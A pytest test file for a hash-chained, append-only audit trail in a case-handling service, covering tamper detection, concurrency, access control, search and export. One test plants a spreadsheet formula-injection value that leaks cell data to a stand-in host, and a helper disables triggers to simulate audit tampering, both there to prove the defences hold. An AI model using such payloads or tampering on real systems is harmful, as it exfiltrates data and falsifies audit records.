"""The audit trail (issue 8 §7): every write chained, tampering found, views/prints/reveals/downloads recorded,
read and exported by admins and supervisors only."""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import subprocess
import sys
import threading
import time
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import Engine, event, select, text
from sqlalchemy.orm import Session

from db.models import AuditEvent, Case
from services import words
from services.administration import admin
from services.administration.calendar_edits import set_calendar_day
from services.casework import case_view, decision_letter, handling_form
from services.errors import InvalidInput, NotPermitted
from services.institution import audit
from services.institution.directory import create_user
from services.rules.calendar import DayType
from services.unit_of_work import UnitOfWork, transaction
from tests.service.conftest import Institution, at

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def owner(request: pytest.FixtureRequest, engine: Engine) -> Engine:
    """The tables' owner, who alone can switch the append-only triggers off: what a tamperer needs.

    Until tests/conftest.py offers `owner_engine` (the app then connects as a non-owner), `engine` is the owner.
    """
    try:
        return request.getfixturevalue("owner_engine")
    except pytest.FixtureLookupError:
        return engine


def tamper(owner: Engine, sql: str, **params: object) -> None:
    with owner.begin() as conn:
        conn.execute(text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(text(sql), params)
        conn.execute(text("ALTER TABLE audit_events ENABLE TRIGGER USER"))


def verify(inst: Institution, head: tuple[int, str] | None = None) -> audit.Verification:
    with inst.uow() as uow:
        return audit.verify(uow.session, head)


def actions(inst: Institution, case_no: str | None = None) -> list[str]:
    query = select(AuditEvent.action).order_by(AuditEvent.seq)
    if case_no:
        query = query.where(AuditEvent.case_id == select(Case.id).where(Case.case_no == case_no).scalar_subquery())
    with inst.uow() as uow:
        return list(uow.session.scalars(query))


def busy_trail(inst: Institution) -> str:
    """Admin changes, a view, a reveal, a print and a system row with non-ASCII detail; the case number."""
    ref = inst.intake()
    with inst.uow() as uow:
        admin.save_department(uow, inst.users["admin"], "audit_dept", "审计部")
    with inst.uow() as uow:
        set_calendar_day(uow, inst.users["admin"], date(2026, 12, 28), DayType.HOLIDAY, "试运行")
    with inst.uow() as uow:
        case_view.case_detail(uow, inst.users["clerk"], ref.case_no)
    with inst.uow() as uow:
        case_view.reveal_pii(uow, inst.users["clerk"], ref.case_no, "phone")
    with inst.uow() as uow:
        handling_form.handling_form(uow, inst.users["handler"], ref.case_no)
    with inst.uow() as uow:
        audit.record(uow.session, None, "sign_in_failed", username="无此人", note='引号 " 与 | 竖线')
    return ref.case_no


def test_every_write_is_chained_and_the_chain_verifies(futures):
    busy_trail(futures)
    with futures.uow() as uow:
        rows = uow.session.execute(select(AuditEvent.seq, AuditEvent.prev_hash, AuditEvent.row_hash)
                                   .order_by(AuditEvent.seq)).all()
    result = verify(futures)
    assert result.intact and result.rows == len(rows) >= 7
    assert [r.seq for r in rows] == list(range(1, len(rows) + 1))
    assert all(b.prev_hash == a.row_hash for a, b in itertools.pairwise(rows))
    assert (result.head_seq, result.head_hash) == (rows[-1].seq, rows[-1].row_hash)


def test_the_database_chains_a_row_whatever_the_writer_claims(futures, engine):
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO audit_events (action, seq, prev_hash, row_hash) "
                          "VALUES ('forged', 999, 'x', 'y')"))
    with futures.uow() as uow:
        forged = uow.session.execute(select(AuditEvent.seq, AuditEvent.row_hash)
                                     .where(AuditEvent.action == "forged")).one()
    assert forged.seq != 999 and forged.row_hash != "y" and verify(futures).intact


def test_the_hash_does_not_depend_on_the_sessions_time_zone(futures, engine):
    with engine.begin() as conn:
        conn.execute(text("SET LOCAL TimeZone = 'America/New_York'"))
        conn.execute(text("INSERT INTO audit_events (action, at) "
                          "VALUES ('signed_in', '2026-11-02 10:00:00.123456+08')"))
    with engine.connect() as conn:
        conn.execute(text("SET TimeZone = 'Pacific/Apia'"))
        assert audit.verify(Session(conn)).intact


def test_audit_rows_cannot_be_changed_or_deleted_by_the_app(futures, engine):
    busy_trail(futures)
    for sql in ("UPDATE audit_events SET detail = '{}'", "DELETE FROM audit_events"):
        # The trigger refuses; with the least-privilege app role (issue 8 §6) the grant already does.
        with pytest.raises(Exception, match=r"append-only|permission denied"), engine.begin() as conn:
            conn.execute(text(sql))


def test_verify_finds_an_edited_row_and_names_it(futures, owner):
    busy_trail(futures)
    tamper(owner, "UPDATE audit_events SET detail = jsonb_set(detail, '{name}', '\"改过\"') WHERE seq = 3")
    result = verify(futures)
    assert (result.intact, result.bad_seq, result.problem, result.rows) == (False, 3, "edited", 2)


def test_the_command_line_verifies_the_chain_and_names_the_first_bad_row(futures, owner, engine):
    busy_trail(futures)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "DATABASE_URL": owner.url.render_as_string(hide_password=False)}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "services", "--lang", "en", "audit", "verify", *args],
                              capture_output=True, text=True, env=env, cwd=ROOT, timeout=120, check=False)

    intact = cli()
    assert intact.returncode == 0, intact.stderr
    head = re.fullmatch(r"\d+ rows checked; head (\d+:[0-9a-f]{64})\n", intact.stdout)
    assert head and cli("--head", head[1]).returncode == 0
    assert cli("--head", "7:nonsense").stderr == "error: head: expected SEQ:HASH: 7:nonsense\n"
    tamper(owner, "UPDATE audit_events SET actor_id = NULL WHERE seq = 2")
    broken = cli()
    assert broken.returncode == 1
    assert broken.stderr.strip() == "audit chain broken at row 2: the row was edited"


def test_a_deleted_row_is_a_gap(futures, owner):
    busy_trail(futures)
    tamper(owner, "DELETE FROM audit_events WHERE seq = 4")
    result = verify(futures)
    assert (result.bad_seq, result.problem) == (4, "gap")


def test_a_row_rehashed_after_an_edit_breaks_the_link_to_it(futures, owner):
    busy_trail(futures)
    # The tamperer recomputes row 3's own hash after editing it: row 4 no longer links to it.
    tamper(owner, "UPDATE audit_events SET detail = '{}', row_hash = audit_row_hash(prev_hash, seq, at, actor_id, "
                  "action, case_id, '{}') WHERE seq = 3")
    result = verify(futures)
    assert (result.bad_seq, result.problem) == (4, "broken_link")


def test_a_cut_tail_is_found_against_the_head_written_down_earlier(futures, owner):
    busy_trail(futures)
    before = verify(futures)
    head = (before.head_seq, before.head_hash)
    tamper(owner, "DELETE FROM audit_events WHERE seq = :s", s=before.head_seq)
    assert verify(futures).intact  # on its own, a shorter chain is still a chain…
    result = verify(futures, head)
    assert (result.bad_seq, result.problem) == (before.head_seq, "truncated")  # …but not the one written down


def test_two_writers_at_once_are_put_in_line(futures, engine):
    """A writer whose transaction is open holds the chain; the second waits for it, then links to its row."""
    def second() -> None:
        with transaction(engine) as uow:
            audit.record(uow.session, futures.users["supervisor"], "sample_drawn", n=2)

    waiting = "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted"
    thread = threading.Thread(target=second)
    with UnitOfWork(engine) as first, engine.connect() as watcher:
        audit.record(first.session, futures.users["admin"], "kpi_weights_set", n=1)
        first.flush()  # the trigger ran: this open transaction holds the chain's lock
        thread.start()
        deadline = time.monotonic() + 30
        while not watcher.scalar(text(waiting)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert watcher.scalar(text(waiting)) == 1
        first.commit()
    thread.join(30)
    with futures.uow() as uow:
        last = uow.session.execute(select(AuditEvent.action, AuditEvent.seq).order_by(AuditEvent.seq.desc())
                                   .limit(2)).all()
    assert [a for a, _ in last] == ["sample_drawn", "kpi_weights_set"] and last[0].seq == last[1].seq + 1
    assert verify(futures).intact


def test_many_concurrent_writers_leave_a_valid_chain(futures, engine):
    start = threading.Barrier(4)

    def writer(n: int) -> None:
        start.wait()
        for i in range(10):
            with transaction(engine) as uow:
                audit.record(uow.session, futures.users["admin"], "kpi_weights_set", writer=n, i=i)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    result = verify(futures)
    assert result.intact and actions(futures).count("kpi_weights_set") == 40


def test_a_case_view_is_recorded_once_per_user_and_case_per_ten_minutes(futures):
    case_no = futures.intake().case_no
    for who, when in [("clerk", "10:30"), ("clerk", "10:35"), ("clerk", "10:39"), ("handler", "10:39"),
                      ("clerk", "10:41")]:
        with futures.uow() as uow:
            case_view.case_detail(uow, futures.users[who], case_no, now=at(f"2026-11-02 {when}"))
    with futures.uow() as uow:
        views = uow.session.execute(select(AuditEvent.actor_id, AuditEvent.at).where(
            AuditEvent.action == "case_viewed").order_by(AuditEvent.seq)).all()
    users = futures.users
    assert views == [(users["clerk"], at("2026-11-02 10:30")), (users["handler"], at("2026-11-02 10:39")),
                     (users["clerk"], at("2026-11-02 10:41"))]


def test_a_refused_view_records_nothing(futures):
    case_no = futures.intake().case_no
    with pytest.raises(NotPermitted), futures.uow() as uow:
        case_view.case_detail(uow, futures.users["outsider"], case_no)
    assert "case_viewed" not in actions(futures)


def test_reveal_print_and_download_are_recorded_against_the_case(futures):
    case_no = futures.intake().case_no
    with futures.uow() as uow:
        case_view.reveal_pii(uow, futures.users["clerk"], case_no, "id_number")
    with futures.uow() as uow:
        handling_form.handling_form(uow, futures.users["clerk"], case_no)
    with futures.uow() as uow:
        audit.downloaded(uow, futures.users["clerk"], "handling_form", f"{case_no}.html", case_no=case_no)
    assert actions(futures, case_no) == ["pii_revealed", "case_printed", "downloaded"]
    with futures.uow() as uow:
        reveal, download = (uow.session.execute(select(AuditEvent.actor_id, AuditEvent.detail)
                                                .where(AuditEvent.action == a)).one()
                            for a in ("pii_revealed", "downloaded"))
    assert reveal.actor_id == futures.users["clerk"] and reveal.detail == {"field": "id_number"}
    assert download.detail["what"] == "handling_form" and download.detail["file"] == f"{case_no}.html"


@pytest.mark.parametrize("who", ["clerk", "handler", "head", "trainee"])
def test_only_admins_and_supervisors_read_the_trail(futures, who):
    with pytest.raises(NotPermitted), futures.uow() as uow:
        audit.search(uow, futures.users[who])
    with pytest.raises(NotPermitted), futures.uow() as uow:
        audit.export_frame(uow, futures.users[who])
    with pytest.raises(NotPermitted), futures.uow() as uow:
        audit.check_chain(uow, futures.users[who])


def test_search_filters_by_user_action_case_and_day_and_pages_newest_first(futures):
    case_no = busy_trail(futures)
    with futures.uow() as uow:
        everything = audit.search(uow, futures.users["supervisor"], page_size=3)
        clerk = audit.search(uow, futures.users["admin"], username="CLE")
        reveals = audit.search(uow, futures.users["admin"], action="pii_revealed", case_no=case_no)
        on_case = audit.search(uow, futures.users["admin"], case_no=case_no)
        today = uow.session.scalar(text("SELECT (now() AT TIME ZONE 'Asia/Shanghai')::date"))  # most rows' own clock
        tomorrow = audit.search(uow, futures.users["admin"], date_from=max(today, uow.now().date()) + timedelta(1))
        wildcard = audit.search(uow, futures.users["admin"], username="%")
    assert len(everything.rows) == 3 and everything.total == verify(futures).rows
    assert [r.seq for r in everything.rows] == sorted((r.seq for r in everything.rows), reverse=True)
    assert {r.username for r in clerk.rows} == {"clerk"} and clerk.total == 2  # the view and the reveal
    assert [(r.action, r.case_no) for r in reveals.rows] == [("pii_revealed", case_no)]
    assert [r.action for r in on_case.rows] == ["case_printed", "pii_revealed", "case_viewed"]
    assert tomorrow.total == 0 and wildcard.total == 0


def test_search_refuses_an_end_before_the_start(futures):
    with pytest.raises(InvalidInput) as refused, futures.uow() as uow:
        audit.search(uow, futures.users["admin"], date_from=date(2026, 11, 2), date_to=date(2026, 11, 1))
    assert refused.value.field == "date_to"


def test_exported_spreadsheets_keep_formulas_inert(futures):
    with futures.uow() as uow:
        evil = create_user(uow, "evil", '=HYPERLINK("http://x.example/?"&A1,"点我")', "kite-harbour9", ["handler"])
        audit.record(uow.session, evil.id, "signed_in", note="@SUM(1+1)")
    with futures.uow() as uow:
        table = audit.export_frame(uow, futures.users["admin"], username="evil")
    sheet = openpyxl.load_workbook(io.BytesIO(audit.to_xlsx(table))).active
    cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert '\'=HYPERLINK("http://x.example/?"&A1,"点我")' in cells
    assert all(sheet.cell(2, c).data_type != "f" for c in range(1, sheet.max_column + 1))
    rows = list(csv.reader(io.StringIO(audit.to_csv(table).decode("utf-8-sig"))))
    assert rows[1][3] == '\'=HYPERLINK("http://x.example/?"&A1,"点我")' and rows[1][4] == "signed_in"


def test_no_service_writes_audit_rows_but_through_record():
    side_doors = [p.name for p in (ROOT / "services").rglob("*.py")
                  if "AuditEvent(" in p.read_text(encoding="utf-8") and p.name != "audit.py"]
    assert side_doors == []


def test_every_action_written_in_the_services_is_a_known_code_with_words():
    call = re.compile(r"\b(?:record|record_once|_audit)\([^)\"]*\"([a-z][a-z0-9_]*)\"")
    written = {code for p in (ROOT / "services").rglob("*.py") for code in call.findall(p.read_text(encoding="utf-8"))}
    assert {"case_viewed", "pii_revealed", "case_printed", "kpi_weights_set", "user_created"} <= written
    assert written <= set(audit.ACTIONS)
    assert all(words.known(f"audit.action.{code}") for code in audit.ACTIONS)


def _statements_after_the_chain_lock(inst: Institution, read: Any) -> list[str]:
    """The statements `read(uow)` sends from the moment it takes the audit chain's lock until it returns."""
    sent: list[str] = []

    def seen(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        sent.append(statement)

    event.listen(inst.engine, "before_cursor_execute", seen)
    try:
        with inst.uow() as uow:
            read(uow)
    finally:
        event.remove(inst.engine, "before_cursor_execute", seen)
    locked = [n for n, s in enumerate(sent) if "pg_advisory_xact_lock" in s]
    assert locked, "the view was not audited"
    return sent[locked[0] + 1:]


@pytest.mark.parametrize("screen", ["case_detail", "handling_form", "decision_letter"])
def test_a_view_or_print_holds_the_chain_only_for_its_own_audit_row(futures, screen):
    """The chain's lock lasts to the commit and every audited action waits for it: a case page audits its
    view after its reads, so the locked part is the re-check and the row (issue 13 §4, the 30-user run)."""
    case_no = futures.intake(resolved_at_intake=True, explanation="当场解释", satisfaction=4).case_no
    call = {"case_detail": case_view.case_detail, "handling_form": handling_form.handling_form,
            "decision_letter": decision_letter.decision_letter}[screen]
    after = _statements_after_the_chain_lock(futures, lambda uow: call(uow, futures.users["clerk"], case_no))
    assert after and all("audit_events" in s for s in after), after
    assert actions(futures, case_no) == ["case_viewed" if screen == "case_detail" else "case_printed"]


def test_two_reruns_of_a_case_page_at_the_same_instant_record_one_view(futures, engine):
    """Both reruns pass the quick check before either commits; the second re-checks under the lock and writes
    nothing once the first has committed."""
    case_no = futures.intake().case_no
    clerk = futures.users["clerk"]
    seen: list[object] = []
    thread = threading.Thread(
        target=lambda: seen.append(_view(engine, clerk, case_no)))
    waiting = "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted"
    with UnitOfWork(engine) as first, engine.connect() as watcher:
        case_view.case_detail(first, clerk, case_no)  # its row is written; the chain is held to its commit
        thread.start()
        deadline = time.monotonic() + 30
        while not watcher.scalar(text(waiting)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert watcher.scalar(text(waiting)) == 1  # the second rerun found no row yet and waits at the chain
        first.commit()
    thread.join(30)
    assert seen == [case_no]
    assert actions(futures, case_no) == ["case_viewed"] and verify(futures).intact


def _view(engine: Engine, user_id: int, case_no: str) -> str:
    with transaction(engine) as uow:
        return case_view.case_detail(uow, user_id, case_no).case_no
